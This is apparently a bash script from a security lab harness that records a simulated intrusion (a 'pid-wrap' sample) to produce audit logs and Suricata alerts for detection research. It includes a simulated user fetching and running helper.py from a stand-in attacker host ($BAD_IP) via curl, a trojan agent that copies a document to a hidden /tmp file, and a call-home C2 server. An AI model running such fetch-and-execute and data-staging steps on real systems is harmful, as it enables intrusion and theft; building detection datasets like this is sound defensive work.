#!/bin/bash
# Records the sample pid-wrap. Run as root on a machine of your own; results in /opt/lab/out/pid-wrap.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" batch-4 10.20.0.31 ""

install -d -o $OUT_UID "$RUN/attacker"
lab_agent 4443 who=id where="uname -a" list="ls -la Documents" copy="cp Documents/contract.txt /tmp/.p" > "$RUN/attacker/helper.py"
lab_outside python3 "$RUN/c2.py" $BAD_IP 4443 "$RUN/seen.json" 2900505 "LAB TROJAN helper call home" who where list copy
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/attacker" 80
sample_end() { rm -f /tmp/.p; }

# bob's sums: many short processes, so that pids come round every half a minute.
install -m 755 "$RUN/sums.sh" $LAB/bin/sums
lab_pid_max 2000
lab_audit_on RAW 500 1
lab_noise_on 6
lab_login bob "$LAB/bin/sums" &
sums=$!
sleep 36
lab_terminal kenji <<TYPED
2 ls
2 curl -s -O http://$BAD_IP/helper.py
3 python3 helper.py
11 ls -la Documents
TYPED
sleep 28
lab_noise_off
wait $sums
lab_audit_off
python3 "$RUN/sensor.py" suricata "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
